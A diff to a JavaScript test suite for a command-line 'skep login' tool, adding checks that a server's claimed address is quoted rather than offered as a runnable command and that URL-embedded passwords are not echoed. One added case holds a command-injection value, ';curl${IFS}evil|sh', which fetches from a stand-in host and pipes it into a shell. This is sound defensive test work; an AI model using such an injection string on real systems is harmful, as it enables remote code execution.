@@ -22,12 +22,20 @@ describe('skep login', () => {
     [
       'another server',
       () => ({ resource: 'https://elsewhere.test', sign_in: [{ issuer: 'https://idp.test' }] }),
-      /says that its address is https:\/\/elsewhere\.test; use that: skep login https:\/\/elsewhere\.test/,
+      /says that its address is "https:\/\/elsewhere\.test"; whoever runs it has to set its resourceUrl/,
+    ],
+    [
+      'a command',
+      (address) => ({
+        resource: `${address}/;curl${'${IFS}'}evil|sh`,
+        sign_in: [{ issuer: 'https://idp.test' }],
+      }),
+      /evil\|sh"; whoever runs it has to set its resourceUrl/,
     ],
     [
       'a part of itself',
       (address) => ({ resource: `${address}/mcp`, sign_in: [{ issuer: 'https://idp.test' }] }),
-      /says that its address is .*\/mcp/,
+      /says that its address is "(.*\/mcp)"; use that: skep login \1/,
     ],
     ['no way to sign in', (address) => ({ resource: address, sign_in: [] }), /cannot be read/],
     ['something else', () => ['x'], /cannot be read/],
@@ -72,13 +80,17 @@ describe('skep login', () => {
   test.each([
     ['login', 'which registry?'],
     ['login http://registry.test', 'plain http is not safe for signing in'],
+    ['login https://user:pw@registry.test', 'the address holds a login: "https://'],
+    ['login http://10.0.0.5:8080 --allow-private-ip', 'is asked in the clear'],
     ['login ftp://registry.test', 'invalid address of a registry: "ftp://registry.test"'],
     ['login https://registry.test --client-secret-file absent', 'needs --client-id'],
     ['logout', 'you are signed in nowhere'],
     ['logout nonsense', 'that is no address'],
   ])('skep %s is refused', async (line, said) => {
     const skep = await commandUnderTest(machine);
-    expect(await skep.refusal(line)).toContain(said);
+    const refusal = await skep.refusal(line);
+    expect(refusal).toContain(said);
+    expect(refusal).not.toContain('pw@');
   });
 
   test('a logout where nobody signed in says so', async () => {
